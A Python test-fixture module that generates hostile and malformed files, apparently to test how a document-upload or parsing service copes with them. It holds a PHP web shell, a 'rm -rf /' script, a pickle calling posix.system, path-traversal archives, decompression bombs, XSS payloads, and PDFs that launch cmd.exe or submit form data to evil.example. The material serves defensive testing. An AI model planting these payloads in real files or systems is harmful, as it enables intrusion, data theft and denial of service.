"""Files that mean harm, or were made by somebody who did: each generated when asked for, none kept."""

import gzip
import io
import struct
import tarfile
import warnings
import zipfile
import zlib
from collections.abc import Callable

import pikepdf
from pikepdf import Array, Dictionary, Name
from PIL import Image

Maker = Callable[[], bytes]
EICAR = b"X5O!P%@AP[4\\PZX54(P^)7CC)7}$" + b"EICAR-STANDARD-ANTIVIRUS-TEST-FILE!$H+H*"


def photo(form: str = "JPEG", *, size: tuple[int, int] = (320, 200), mode: str = "RGB", **how: object) -> bytes:
    out = io.BytesIO()
    Image.effect_noise(size, 60).convert(mode).save(out, form, **how)
    return out.getvalue()


def chunk(kind: bytes, data: bytes) -> bytes:
    return struct.pack(">I", len(data)) + kind + data + struct.pack(">I", zlib.crc32(kind + data))


def png(wide: int, high: int, *extra: bytes, depth: int = 8, colour: int = 2, body: bytes | None = None) -> bytes:
    head = struct.pack(">IIBBBBB", wide, high, depth, colour, 0, 0, 0)
    data = zlib.compress(b"\0" * 999) if body is None else body
    parts = [chunk(b"IHDR", head), *extra, chunk(b"IDAT", data), chunk(b"IEND", b"")]
    return b"\x89PNG\r\n\x1a\n" + b"".join(parts)


def deflated_zeros(size: int) -> bytes:
    """So many zero bytes (whole MiB), squeezed, without ever holding them: each MiB but the first looks like the one before it."""
    squeezer, piece, last = zlib.compressobj(9), bytes(1 << 20), b"\x03\0"
    first, again = (squeezer.compress(piece) + squeezer.flush(zlib.Z_FULL_FLUSH) for _ in range(2))
    return first + again * ((size >> 20) - 1) + last + struct.pack(">I", size % 65_521 << 16 | 1)


def pdf(change: Callable[[pikepdf.Pdf], None] | None = None, *, pages: int = 1, **how: object) -> bytes:
    made, out = pikepdf.new(), io.BytesIO()
    for _ in range(pages):
        made.add_blank_page(page_size=(595, 842))
    if change:
        change(made)
    with warnings.catch_warnings():
        warnings.simplefilter("ignore")  # it doubts what we write, and rightly
        made.save(out, **how)  # type: ignore[arg-type]
    return out.getvalue()


def content(words: bytes) -> Callable[[pikepdf.Pdf], None]:
    def change(made: pikepdf.Pdf) -> None:
        made.pages[0].Contents = made.make_stream(words)

    return change


def acting(**action: object) -> Callable[[pikepdf.Pdf], None]:
    def change(made: pikepdf.Pdf) -> None:
        made.Root.OpenAction = made.make_indirect(Dictionary(**action))

    return change


def annotated(**note: object) -> Callable[[pikepdf.Pdf], None]:
    def change(made: pikepdf.Pdf) -> None:
        one = Dictionary(Type=Name.Annot, Rect=[0, 0, 600, 800], **note)
        made.pages[0].Annots = Array([made.make_indirect(one)])

    return change


def raw_pdf(*objects: bytes, root: int = 1) -> bytes:
    """A PDF written by hand, with a right table of its objects."""
    out, places = b"%PDF-1.7\n", []
    for number, body in enumerate(objects, 1):
        places.append(len(out))
        out += b"%d 0 obj\n%s\nendobj\n" % (number, body)
    start = len(out)
    table = b"".join(b"%010d 00000 n \n" % place for place in places)
    size = len(objects) + 1
    return out + b"xref\n0 %d\n0000000000 65535 f \n%strailer\n<</Size %d/Root %d 0 R>>\nstartxref\n%d\n%%%%EOF" % (
        size, table, size, root, start,
    )  # fmt: skip


COLOURS = {"BitsPerComponent": 8, "ColorSpace": Name.DeviceRGB}
GREY = {"BitsPerComponent": 1, "ColorSpace": Name.DeviceGray}
CATALOGUE = b"<</Type/Catalog/Pages 2 0 R>>"


def laughing(depth: int = 12) -> Callable[[pikepdf.Pdf], None]:
    """Forms that draw forms that draw forms: a few kilobytes, thousands of millions of strokes."""

    def change(made: pikepdf.Pdf) -> None:
        inner = made.make_stream(b"0 0 m 600 800 l S", Type=Name.XObject, Subtype=Name.Form, BBox=[0, 0, 600, 800])
        for _ in range(depth):
            inner = made.make_stream(
                b"/F Do " * 10, Type=Name.XObject, Subtype=Name.Form, BBox=[0, 0, 600, 800],
                Resources=Dictionary(XObject=Dictionary(F=inner)),
            )  # fmt: skip
        made.pages[0].Resources = Dictionary(XObject=Dictionary(F=inner))
        made.pages[0].Contents = made.make_stream(b"/F Do")

    return change


def eats_itself(made: pikepdf.Pdf) -> None:
    form = made.make_stream(b"/F Do", Type=Name.XObject, Subtype=Name.Form, BBox=[0, 0, 600, 800])
    form.Resources = Dictionary(XObject=Dictionary(F=form))
    made.pages[0].Resources = Dictionary(XObject=Dictionary(F=form))
    made.pages[0].Contents = made.make_stream(b"/F Do")


def swollen(size: int) -> Callable[[pikepdf.Pdf], None]:
    def change(made: pikepdf.Pdf) -> None:
        stream = made.make_stream(b"")
        stream.write(deflated_zeros(size), filter=Name.FlateDecode)
        made.pages[0].Contents = stream

    return change


def font(**program: object) -> Callable[[pikepdf.Pdf], None]:
    def change(made: pikepdf.Pdf) -> None:
        told = Dictionary(Type=Name.FontDescriptor, FontName=Name.Bad, Flags=4, FontBBox=[0, 0, 1000, 1000],
                          ItalicAngle=0, Ascent=800, Descent=-200, CapHeight=700, StemV=80)  # fmt: skip
        for key, data in program.items():
            told[f"/{key}"] = made.make_stream(bytes(str(data), "latin-1"))
        letters = Dictionary(Type=Name.Font, Subtype=Name.TrueType, BaseFont=Name.Bad, FontDescriptor=told,
                             FirstChar=0, LastChar=300, Widths=Array([10**9] * 301))  # fmt: skip
        made.pages[0].Resources = Dictionary(Font=Dictionary(F=made.make_indirect(letters)))
        made.pages[0].Contents = made.make_stream(b"BT /F 24 Tf 50 700 Td (KARTU TANDA PENDUDUK) Tj ET")

    return change


def image_of(data: bytes, **told: object) -> Callable[[pikepdf.Pdf], None]:
    def change(made: pikepdf.Pdf) -> None:
        one = made.make_stream(b"", Type=Name.XObject, Subtype=Name.Image, **told)
        one.write(data, filter=told.get("Filter"))  # type: ignore[arg-type]
        made.pages[0].Resources = Dictionary(XObject=Dictionary(I=one))
        made.pages[0].Contents = made.make_stream(b"q 595 0 0 842 0 0 cm /I Do Q")

    return change


def attached(made: pikepdf.Pdf) -> None:
    made.attachments["calc.exe"] = b"MZ\x90\0" * 100


def nested(made: pikepdf.Pdf) -> None:
    deep: object = Dictionary()
    for _ in range(400):
        deep = Dictionary(Kids=Array([deep]))
    made.Root.Names = made.make_indirect(deep)


def zipped(name: str, body: bytes = b"<xml/>") -> bytes:
    out = io.BytesIO()
    with zipfile.ZipFile(out, "w", zipfile.ZIP_DEFLATED) as file:
        file.writestr("[Content_Types].xml", "<Types/>")
        file.writestr(name, body)
    return out.getvalue()


def tarred() -> bytes:
    out = io.BytesIO()
    with tarfile.open(fileobj=out, mode="w") as file:
        entry = tarfile.TarInfo("../../../../etc/cron.d/evil")
        entry.size = 3
        file.addfile(entry, io.BytesIO(b"evi"))
    return out.getvalue()


def moving(form: str, frames: int = 40) -> bytes:
    out = io.BytesIO()
    pictures = [Image.new("RGB", (120, 120), (number * 5, 0, 0)) for number in range(frames)]
    pictures[0].save(out, form, save_all=True, append_images=pictures[1:], duration=10, loop=0)
    return out.getvalue()


def exif_bomb() -> bytes:
    exif = Image.Exif()
    exif[0x010E] = "A" * 60_000
    exif[0x0112] = 4711
    return photo(exif=exif)


def with_profile() -> bytes:
    return png(120, 120, chunk(b"iCCP", b"x\0\0" + deflated_zeros(64 << 20)), body=zlib.compress(bytes(361 * 120)))


def with_text() -> bytes:
    return png(120, 120, chunk(b"zTXt", b"x\0\0" + deflated_zeros(64 << 20)), body=zlib.compress(bytes(361 * 120)))


LATER = b"\nxref\n0 0\ntrailer\n<</Size 1/Root 1 0 R/Prev %d>>\nstartxref\n%d\n%%%%EOF"

HOSTILE: dict[str, Maker] = {
    # nothing that is a document
    "nothing": lambda: b"",
    "one byte": lambda: b"\0",
    "words": lambda: b"hello world",
    "a web page": lambda: b"<!DOCTYPE html><script>alert(1)</script>",
    "a drawing with a script": lambda: b"<svg xmlns='http://www.w3.org/2000/svg'><script>alert(1)</script></svg>",
    "a billion laughs of XML": lambda: b"<!DOCTYPE l [<!ENTITY a 'ha'><!ENTITY b '&a;&a;&a;'>]><l>&b;</l>",
    "a shell script": lambda: b"#!/bin/sh\nrm -rf /\n",
    "PHP": lambda: b"<?php system($_GET['c']); ?>",
    "a program for Windows": lambda: b"MZ\x90\0" + b"\0" * 500,
    "a program for Linux": lambda: b"\x7fELF\x02\x01\x01" + b"\0" * 500,
    "Java": lambda: b"\xca\xfe\xba\xbe\0\0\0\x34" + b"\0" * 100,
    "a pickle": lambda: b"\x80\x04\x95\x1a\0\0\0\0\0\0\0\x8c\x05posix\x8c\x06system\x93.",
    "EICAR": lambda: EICAR,
    "an archive bomb": lambda: zipped("big", bytes(8 << 20)),
    "an archive that climbs": lambda: zipped("../../../etc/passwd"),
    "a tape archive that climbs": tarred,
    "a squeezed bomb": lambda: gzip.compress(bytes(8 << 20)),
    "a macro document, new": lambda: zipped("word/vbaProject.bin", b"Attribute VB_Name"),
    "a macro document, old": lambda: b"\xd0\xcf\x11\xe0\xa1\xb1\x1a\xe1" + b"Macros VBA AutoOpen" * 50,
    "a spreadsheet": lambda: zipped("xl/workbook.xml"),
    "rich text with an object": lambda: b"{\\rtf1{\\object\\objdata 0105}}",
    "PostScript": lambda: b"%!PS-Adobe-3.0\n(/etc/passwd) (r) file\n",
    "an iPhone's own format": lambda: b"\0\0\0\x18ftypheic" + b"\0" * 50,
    "a film": lambda: b"\0\0\0\x18ftypmp42" + b"\0" * 50,
    # pictures
    "an animated GIF": lambda: moving("GIF"),
    "an animated PNG": lambda: moving("PNG"),
    "an animated WebP": lambda: moving("WEBP", 8),
    "a TIFF of many pages": lambda: moving("TIFF", 20),
    "a bitmap": lambda: photo("BMP"),
    "fifty thousand pixels square": lambda: png(50_000, 50_000),
    "more than two thousand million pixels wide": lambda: png(2**31 - 1, 1),
    "as large as may be, of sixteen bits": lambda: png(6_300, 6_300, depth=16, colour=6, body=deflated_zeros(318 << 20)),
    "a strip": lambda: png(19_999, 1),
    "one pixel": lambda: photo(size=(1, 1)),
    "a picture that lies about its size": lambda: png(900, 900),
    "a PNG with a wrong sum": lambda: png(120, 120)[:-20] + b"\0" * 20,
    "a PNG of an unknown colour": lambda: png(120, 120, colour=5),
    "a PNG with a swollen profile": with_profile,
    "a PNG with a swollen text": with_text,
    "a PNG without a picture": lambda: b"\x89PNG\r\n\x1a\n" + chunk(b"IEND", b""),
    "half a photograph": lambda: photo()[:2000],
    "a head without a body": lambda: b"\xff\xd8\xff\xe0",
    "a photograph with a false length": lambda: photo().replace(b"\xff\xc0\x00\x11", b"\xff\xc0\xff\xff"),
    "a photograph that says it is huge": lambda: photo(mode="L").replace(struct.pack(">HH", 200, 320), b"\xff\xff\xff\xff", 1),
    "a photograph with a swollen EXIF": exif_bomb,
    "a photograph with a hidden archive": lambda: photo() + zipped("evil.exe", b"MZ"),
    "a photograph that is also PHP": lambda: photo(comment=b"<?php system('id'); ?>"),
    "a photograph that is also a web page": lambda: photo(comment=b"--><script>alert(1)</script>"),
    "a photograph in four inks": lambda: photo(mode="CMYK"),
    "a photograph of nothing but noise": lambda: photo(size=(1800, 1800), quality=95),
    # PDFs
    "a PDF cut off": lambda: pdf()[:200],
    "a PDF of nothing": lambda: b"%PDF-1.7\n%%EOF",
    "a PDF of noise": lambda: b"%PDF-1.7\n" + zlib.compress(bytes(range(256)) * 40),
    "a locked PDF": lambda: pdf(encryption=pikepdf.Encryption(user="secret", owner="boss")),
    "an empty PDF": lambda: pdf(pages=0),
    "ten thousand pages": lambda: pdf(pages=10_000),
    "a tree of pages that bites its tail": lambda: raw_pdf(CATALOGUE, b"<</Type/Pages/Count 9/Kids[2 0 R]>>"),
    "a page that is its own parent": lambda: raw_pdf(
        CATALOGUE, b"<</Type/Pages/Count 1/Kids[3 0 R]/Parent 3 0 R>>", b"<</Type/Page/Parent 3 0 R/MediaBox[0 0 9 9]>>"
    ),
    "an object that is itself": lambda: raw_pdf(CATALOGUE, b"2 0 R"),
    "a length that is itself": lambda: raw_pdf(
        CATALOGUE, b"<</Type/Pages/Count 1/Kids[3 0 R]>>", b"<</Type/Page/Parent 2 0 R/MediaBox[0 0 9 9]/Contents 4 0 R>>",
        b"<</Length 4 0 R>>stream\nq\nendstream",
    ),
    "a count that lies": lambda: raw_pdf(CATALOGUE, b"<</Type/Pages/Count 2147483647/Kids[]>>"),
    "a thousand brackets": lambda: raw_pdf(CATALOGUE + b"[" * 5000, b"[" * 50_000 + b"]" * 50_000),
    "versions in a ring": lambda: pdf() + LATER % (9, 9),
    "names without end": lambda: pdf(nested),
    "a script at its opening": lambda: pdf(acting(S=Name.JavaScript, JS="app.alert(1)")),
    "a program at its opening": lambda: pdf(acting(S=Name.Launch, F="cmd.exe")),
    "a letter home at its opening": lambda: pdf(acting(S=Name.SubmitForm, F="http://evil.example/")),
    "a link to a share": lambda: pdf(annotated(Subtype=Name.Link, A=Dictionary(S=Name.GoToR, F=r"\\evil\share"))),
    "a film in a page": lambda: pdf(annotated(Subtype=Name.RichMedia)),
    "a form with a script": lambda: pdf(annotated(Subtype=Name.Widget, AA=Dictionary(K=Dictionary(S=Name.JavaScript, JS="1")))),
    "an attachment": lambda: pdf(attached),
    "forms of forms of forms": lambda: pdf(laughing()),
    "a form that draws itself": lambda: pdf(eats_itself),
    "a page of more than a thousand megabytes": lambda: pdf(swollen(1200 << 20)),
    "a page as large as a town": lambda: pdf(lambda made: made.pages[0].__setitem__("/MediaBox", Array([0, 0, 10**7, 10**7]))),
    "a page of no size": lambda: pdf(lambda made: made.pages[0].__setitem__("/MediaBox", Array([0, 0, 0, 0]))),
    "a page of negative size": lambda: pdf(lambda made: made.pages[0].__setitem__("/MediaBox", Array([9, 9, -900, -900]))),
    "a broken font": lambda: pdf(font(FontFile2="\0\1\0\0" + "\xff" * 4000)),
    "a font of another kind": lambda: pdf(font(FontFile3="%!PS-AdobeFont " + "x" * 4000)),
    "a picture in a PDF that is too large": lambda: pdf(image_of(b"\0", Width=60_000, Height=60_000)),
    "a picture in a PDF that lies": lambda: pdf(image_of(b"\0" * 9, Width=8_000, Height=8_000, **COLOURS)),
    "a swollen picture in a PDF": lambda: pdf(
        image_of(deflated_zeros(240 << 20), Width=8_900, Height=8_900, **COLOURS, Filter=Name.FlateDecode)
    ),
    "a broken JPEG 2000": lambda: pdf(image_of(b"\xff\x4f\xff\x51" + b"\xff" * 900, Width=90, Height=90, Filter=Name.JPXDecode)),
    "a broken JBIG2": lambda: pdf(image_of(b"\0\0\0\1" + b"\xff" * 900, Width=90, Height=90, **GREY, Filter=Name.JBIG2Decode)),
    "a fax of nonsense": lambda: pdf(image_of(b"\xaa" * 9000, Width=9000, Height=9000, **GREY, Filter=Name.CCITTFaxDecode)),
    "words of nonsense": lambda: pdf(content(b"q " * 200_000 + b"\xff\xfe" * 1000)),
    "a pattern of patterns": lambda: pdf(content(b"/Pattern cs /P scn 0 0 600 800 re f " * 20_000)),
    "a PDF that is also a web page": lambda: pdf().replace(b"%PDF-1", b"%PDF-1", 1) + b"<script>alert(1)</script>",
    "a PDF that is also an archive": lambda: pdf() + zipped("evil.exe", b"MZ"),
}  # fmt: skip
